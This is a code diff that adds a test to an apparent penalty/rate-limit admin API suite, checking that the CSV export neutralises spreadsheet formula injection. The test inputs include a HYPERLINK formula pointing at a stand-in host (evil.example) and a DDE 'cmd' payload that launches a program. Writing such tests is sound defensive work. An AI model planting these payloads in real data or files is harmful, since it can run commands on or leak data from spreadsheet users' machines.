@@ -253,6 +253,40 @@ describe.each(ADAPTERS)('penalties through the admin API on %s', (adapter) => {
     expect(ids).toEqual([...ids].sort((a, b) => Number(b) - Number(a)));
   });
 
+  it('exports formula-looking identifiers and reasons as plain text cells', async () => {
+    const payloads = [
+      [`=HYPERLINK("http://evil.example/?${adapter}","open")`, "=cmd|' /C calc'!A0"],
+      [`+sum-${adapter}`, '-2+3'],
+      [`@at-${adapter}`, '\t=1+1'],
+    ];
+    for (const [identifier, reason] of payloads) {
+      const blocked = await api('POST', '/blocked', {
+        body: { policy: 'attempts', identifier: `${identifier}`, durationMs: MINUTE, reason },
+      });
+      expect(blocked.status).toBe(201);
+    }
+    // The history records a block once its event has come through the stream.
+    await eventually(
+      async () =>
+        (
+          await Promise.all(
+            payloads.map(([identifier]) => history(encodeURIComponent(identifier!))),
+          )
+        ).every((rows) => rows.length === 1),
+      5_000,
+    );
+    const response = await fetch(`${app.url}/sluice/api/penalties?policy=attempts`, {
+      headers: { authorization: `Bearer ${TOKENS.viewer}`, accept: 'text/csv' },
+    });
+    const cells = (await response.text()).split(/,|\n/);
+    // No cell starts a formula; each payload is there, behind an apostrophe.
+    expect(cells.filter((cell) => /^"?[=+\-@\t\r]/.test(cell))).toEqual([]);
+    expect(cells).toContain(`'+sum-${adapter}`);
+    expect(cells).toContain("'-2+3");
+    expect(cells).toContain(`'@at-${adapter}`);
+    expect(cells).toContain(`"'=HYPERLINK(""http://evil.example/?${adapter}""`);
+  });
+
   it('lists the identifiers seen most: passes, rejections, last seen and state now', async () => {
     const ron = `ron-${adapter}`;
     const neville = `neville-${adapter}`;
